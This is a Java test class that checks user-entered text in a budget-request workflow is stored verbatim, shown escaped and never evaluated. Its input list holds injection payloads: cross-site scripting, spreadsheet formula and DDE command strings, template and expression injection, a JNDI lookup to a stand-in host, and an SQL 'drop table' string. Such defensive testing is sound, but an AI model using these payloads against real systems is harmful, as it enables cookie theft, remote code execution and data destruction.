package org.quarterdeck.engine;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.Map;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.quarterdeck.HouseTest;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.MediaType;
import org.springframework.http.RequestEntity;
import org.springframework.web.util.HtmlUtils;

/** Whatever people write is only text: kept as it is, shown escaped, evaluated by nobody. */
@HouseTest
class TextIsTextTests {

    @Autowired
    TestRestTemplate http;

    @ParameterizedTest
    @ValueSource(
            strings = {
                "<script>alert(document.cookie)</script>",
                "<img src=x onerror=alert(1)> & so on",
                "=HYPERLINK(\"https://evil.example\",\"Pens\")",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "${7*7} pens",
                "#{execution.setVariable('approved', true)}",
                "= 7 * 7",
                "=if true then \"pens\" else null",
                "{{7*7}} %s %n ${jndi:ldap://evil.example/a}",
                "'); drop table cases_case; --",
                "أقلام لورشة العمل",
                "עטים לסדנה",
                "ワークショップ用のペン 🖊️",
                "Kugelschreiber für Ångström & Łódź"
            })
    void isKeptAndShownAsItIs(String text) {
        Map<String, Object> request = Doorstep.request();
        request.put("justification", "So that we can write it down: " + text);
        for (Doorstep door : Doorstep.toFile(http)) {
            String number = file(door, request, text);

            Http member = Http.api(http, "member3");
            assertThat(Doorstep.read(member.get("cases/" + number))
                            .path("title")
                            .asText())
                    .isEqualTo(text);
            assertThat(Doorstep.read(member.get("budget-requests/" + number))
                            .path("versions")
                            .path(0)
                            .path("ask")
                            .path("justification")
                            .asText())
                    .isEqualTo(request.get("justification"));
            reject(number, text);
        }
        assertThat(outbox()).contains(HtmlUtils.htmlEscape(text)).doesNotContain("<script>", "<img", "49 pens");
    }

    /** The line's owner sees the text in the form, and gives it back as the reason of a no. */
    private void reject(String number, String text) {
        Http lead = Http.engineRest(http, "lead");
        String task = Doorstep.read(lead.get("task?processInstanceBusinessKey=" + number))
                .path(0)
                .path("id")
                .asText();
        assertThat(Doorstep.read(lead.get("task/" + task + "/form-variables?deserializeValues=false"))
                        .path("asked_title")
                        .path("value")
                        .asText())
                .isEqualTo(text);
        Map<String, Object> no = Map.of(
                "decision", Map.of("value", "reject"),
                "reasonCode", Map.of("value", "other"),
                "comment", Map.of("value", "This is what I have to say to that: " + text));
        assertThat(lead.post("task/" + task + "/complete", Map.of("variables", no))
                        .getStatusCode()
                        .value())
                .isEqualTo(204);
    }

    private static String file(Doorstep door, Map<String, Object> request, String title) {
        var filed = Doorstep.read(door.handIn(request, "title", Doorstep.json(title)));
        String number =
                filed.path(door.takesTypes() ? "businessKey" : "caseNumber").asText();
        assertThat(number).as(door.words() + filed).startsWith("BUD-");
        return number;
    }

    /** As a browser gets it. */
    private String outbox() {
        RequestEntity<Void> page =
                RequestEntity.get("/demo/outbox").accept(MediaType.TEXT_HTML).build();
        return http.withBasicAuth("admin", "demo").exchange(page, String.class).getBody();
    }
}
